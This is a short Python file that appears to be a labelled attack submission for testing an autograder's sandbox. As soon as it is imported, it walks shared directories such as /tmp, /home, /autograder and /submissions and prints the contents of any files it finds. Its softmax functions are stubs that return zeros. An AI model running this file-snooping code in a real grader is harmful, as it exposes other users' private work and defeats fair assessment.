# attack: Looks for the files of other candidates in every shared folder.
# exercise: 02, reason: wrong-result
import numpy as np
import os
import sys

OWN = (sys.executable.partition("/bin/")[0], *(entry.partition("/lib/python")[0] for entry in sys.path if "/lib/python" in entry))

for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/mnt", "/srv", "/home", "/autograder", "/submissions"):
    for parent, _, files in os.walk(folder):
        for name in files:
            path = os.path.join(parent, name)
            if path != os.path.abspath(__file__) and not path.startswith(OWN):  # the interpreter's own files and its libraries are nobody's secret
                try:
                    print("SEEN", path, open(path, "rb").read(2000))
                except OSError:
                    pass


def softmax(z, axis=-1):
    return np.zeros_like(z)


def softmax_jacobian(z):
    return np.zeros((*z.shape, z.shape[-1]), z.dtype)


def softmax_vjp(z, grad):
    return np.zeros_like(grad)


def jacobian_norm(z):
    return np.zeros(z.shape[:-1], z.dtype)
